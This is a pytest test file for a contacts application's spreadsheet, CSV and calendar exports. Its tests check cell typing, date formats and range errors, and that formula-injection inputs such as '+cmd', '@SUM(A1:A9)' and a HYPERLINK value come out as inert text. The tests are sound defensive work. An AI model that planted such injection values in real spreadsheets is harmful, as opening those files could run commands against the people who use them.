def test_contacts_xlsx_has_phones_as_plain_text_and_no_formulas(data, tmp_path):
    path = tmp_path / "contactos.xlsx"
    assert exporting.export_to("contacts", path) == 2
    assert "<f>" not in _sheet_xml(path)  # not one formula, whatever the cells say
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Contacts" and sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header == list(exporting.CONTACT_HEADER)
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    jose = {h: cell for h, cell in zip(header, rows["José"], strict=True)}
    assert jose["Phone"].value == "+52 55 1234 5678; +52 33 3616 1234"  # no apostrophe
    assert jose["Phone"].data_type == "s"
    assert jose["Tags"].value == "clientes VIP; ferretería"
    evil = {h: cell for h, cell in zip(header, rows[HYPERLINK], strict=True)}
    assert evil["Name"].value == HYPERLINK and evil["Name"].data_type == "s"
    assert evil["Company"].value == "@SUM(A1:A9)" and evil["Notes"].value == "+cmd"
    assert evil["Job title"].value == "-2+3" and evil["Job title"].data_type == "s"


def test_leads_xlsx_has_dates_amounts_and_text_typed(data, tmp_path):
    from contactos.models import database

    database.execute_sql("UPDATE lead SET value = ? WHERE id = ?", ("inf", data["lost"].id))
    path = tmp_path / "prospectos.xlsx"
    count = exporting.export_to("leads", path)
    assert count == Lead.select().count()
    assert "<f>" not in _sheet_xml(path)
    sheet = openpyxl.load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    assert header == list(exporting.LEAD_HEADER)
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    plain = rows[data["plain"].id]
    assert plain["Due"].value == dt.datetime.combine(TOMORROW, dt.time())  # a date cell
    assert plain["Due"].is_date
    assert plain["Value"].value == 129500 and plain["Value"].number_format == "#,##0.00"
    assert plain["Received"].is_date
    visit = rows[data["visit"].id]
    assert visit["Due"].value == dt.datetime.combine(TODAY + dt.timedelta(days=3), dt.time(10, 30))
    assert rows[data["lost"].id]["Value"].value == "inf"  # a damaged value, as stored


def test_the_csv_export_still_neutralises_what_the_xlsx_types_as_text(data, tmp_path):
    exporting.export_to("contacts", tmp_path / "c.csv", style=exporting.COMMA)
    evil = next(r for r in read_csv(tmp_path / "c.csv")[1:] if r[1] != "José")
    assert evil[0] == "'" + HYPERLINK


# --- Odd input that must give a message, not a traceback --------------------------------


@pytest.mark.parametrize("days", [0, -1, exporting.MAX_DAYS + 1, 99999999])
def test_followups_days_out_of_range_are_refused(data, tmp_path, days):
    path = tmp_path / "f.ics"
    with pytest.raises(ExportError, match=f"from 1 to {exporting.MAX_DAYS} days ahead"):
        exporting.export_followups_ics(path, days=days)
    assert not path.exists() and not list(tmp_path.glob("*.part"))


def test_followups_days_at_the_limit(data, tmp_path):
    assert exporting.export_followups_ics(tmp_path / "f.ics", days=exporting.MAX_DAYS) > 0


@pytest.mark.parametrize("stored", [float("inf"), float("-inf"), "nan", "Infinity", "abc"])
def test_leads_export_writes_a_damaged_value_as_stored(data, tmp_path, stored):
    """A value no program should have written (an 'inf' from an older version, a damaged
    row) is written as the database holds it, and the other leads are still exported."""
    from contactos.models import database

    lead_id = data["plain"].id
    database.execute_sql("UPDATE lead SET value = ? WHERE id = ?", (stored, lead_id))
    path = tmp_path / "leads.csv"
    assert exporting.export_leads_csv(path, style=exporting.COMMA) == Lead.select().count()
    rows = read_csv(path)
    row = next(r for r in rows[1:] if r[0] == str(lead_id))
    value = row[rows[0].index("Value")]
    written = {float("inf"): "inf", float("-inf"): "'-inf"}.get(stored, stored)
    assert value == written
